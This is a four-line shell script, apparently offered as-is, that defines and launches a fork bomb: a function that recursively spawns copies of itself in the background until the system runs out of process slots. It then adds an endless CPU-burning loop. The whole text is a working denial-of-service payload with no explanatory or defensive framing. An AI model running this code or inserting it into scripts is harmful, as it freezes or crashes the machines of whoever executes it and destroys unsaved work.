# Processes that start processes, until there is no room for any.
bomb() { bomb | bomb & }
bomb
while :; do :; done
